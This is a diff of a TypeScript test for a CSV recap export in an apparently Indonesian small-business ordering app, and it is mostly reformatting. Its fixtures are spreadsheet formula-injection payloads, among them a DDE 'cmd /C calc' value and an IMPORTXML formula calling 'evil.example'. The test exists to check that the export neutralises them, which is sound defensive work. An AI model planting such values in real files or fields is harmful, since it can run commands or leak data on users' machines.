@@ -10,7 +10,7 @@ const HOSTILE = {
   opd: 'Dinas, @SUM(A1:A9)',
   umkmName: 'Kue Bu Sri; =1+1',
   kecamatan: 'Beji\t-2+3',
-  product: 'Roti;+cmd|\' /C calc\'!A0',
+  product: "Roti;+cmd|' /C calc'!A0",
   postLink: 'https://www.instagram.com/p/x/;=IMPORTXML("http://evil.example","//a")',
   quoted: 'Madu; "=2+2"',
   newline: 'Keripik\n=3+3',
@@ -18,25 +18,37 @@ const HOSTILE = {
 
 const person: Person = { nip: '198001012005011001', name: HOSTILE.asnName, phone: '+6281100000001', opd: HOSTILE.opd, role: 'asn' };
 const umkm: Umkm = {
-  id: 'U1', name: HOSTILE.umkmName, ownerName: 'Sri', ownerPhone: '+6281200000001', category: 'kuliner',
-  kecamatan: HOSTILE.kecamatan, kelurahan: 'Beji', address: 'Jl. Margonda 1',
+  id: 'U1',
+  name: HOSTILE.umkmName,
+  ownerName: 'Sri',
+  ownerPhone: '+6281200000001',
+  category: 'kuliner',
+  kecamatan: HOSTILE.kecamatan,
+  kelurahan: 'Beji',
+  address: 'Jl. Margonda 1',
 };
-const order = (id: string, items: { name: string }[], postLink?: string): Order => ({
-  id, asnNip: person.nip, umkmId: 'U1', status: 'paid', total: 25000,
-  items: items.map((it) => ({ sku: 'P1', name: it.name, price: 25000, qty: 1 })),
-  ...(postLink ? { postLink } : {}),
-  recipient: { name: '=Siti Wulan', phone: '+6281300000001', address: 'Jl. X', kelurahan: 'Beji', kecamatan: '@Beji' },
-  reportedTo: {}, createdAt: '2026-11-23T03:00:00.000Z', updatedAt: '2026-11-23T03:00:00.000Z',
-} as Order);
+const order = (id: string, items: { name: string }[], postLink?: string): Order =>
+  ({
+    id,
+    asnNip: person.nip,
+    umkmId: 'U1',
+    status: 'paid',
+    total: 25000,
+    items: items.map((it) => ({ sku: 'P1', name: it.name, price: 25000, qty: 1 })),
+    ...(postLink ? { postLink } : {}),
+    recipient: { name: '=Siti Wulan', phone: '+6281300000001', address: 'Jl. X', kelurahan: 'Beji', kecamatan: '@Beji' },
+    reportedTo: {},
+    createdAt: '2026-11-23T03:00:00.000Z',
+    updatedAt: '2026-11-23T03:00:00.000Z',
+  }) as Order;
 
-const csv = recapCsv(
-  [order('O-1', [{ name: HOSTILE.product }, { name: HOSTILE.quoted }], HOSTILE.postLink), order('O-2', [{ name: HOSTILE.newline }])],
-  { persons: new Map([[person.nip, person]]), umkms: new Map([[umkm.id, umkm]]) },
-);
+const csv = recapCsv([order('O-1', [{ name: HOSTILE.product }, { name: HOSTILE.quoted }], HOSTILE.postLink), order('O-2', [{ name: HOSTILE.newline }])], {
+  persons: new Map([[person.nip, person]]),
+  umkms: new Map([[umkm.id, umkm]]),
+});
 
 /** The cells a spreadsheet sees when it splits the file on `delimiter` (quotes honoured only where a cell opens with one). */
-const cellsWith = (delimiter: string) =>
-  (parse(csv, { delimiter, relax_quotes: true, relax_column_count: true, skip_empty_lines: true }) as string[][]).flat();
+const cellsWith = (delimiter: string) => (parse(csv, { delimiter, relax_quotes: true, relax_column_count: true, skip_empty_lines: true }) as string[][]).flat();
 
 describe('recap CSV opened in a spreadsheet', () => {
   it.each([
